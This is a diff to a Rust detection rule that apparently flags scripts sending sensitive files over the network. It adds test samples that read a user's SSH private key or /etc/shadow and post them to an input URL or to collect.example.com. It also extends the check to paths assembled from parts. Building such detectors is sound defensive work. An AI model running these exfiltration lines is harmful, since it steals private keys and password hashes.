@@ -27,6 +27,14 @@ pub static RULE: Rule = Rule {
             "scripts/a.py",
             "import requests\ns = requests.Session()\ndata = open('/etc/passwd').read()\ns.post(input(), data='x')\n",
         ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\np = os.path.join('/home', os.getlogin(), '.ssh', 'id_rsa')\nrequests.post(input(), data=open(p).read())\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import subprocess\ndata = open('/etc/shadow').read()\nsubprocess.run(['curl', '-d', data, 'https://collect.example.com'])\n",
+        ),
     ],
     misses: &[
         Sample::File(
@@ -50,7 +58,12 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     if !sent && !super::operations(unit).iter().any(super::reaches_out) {
         return;
     }
-    for place in super::sensitive_places(unit) {
+    let mut places = super::sensitive_places(unit);
+    if places.is_empty() && sent {
+        // The path was put together from parts that say nothing alone.
+        places = super::senders(unit, Origins::SENSITIVE);
+    }
+    for place in places {
         let raised = reporter.raise(place);
         if !sent {
             raised
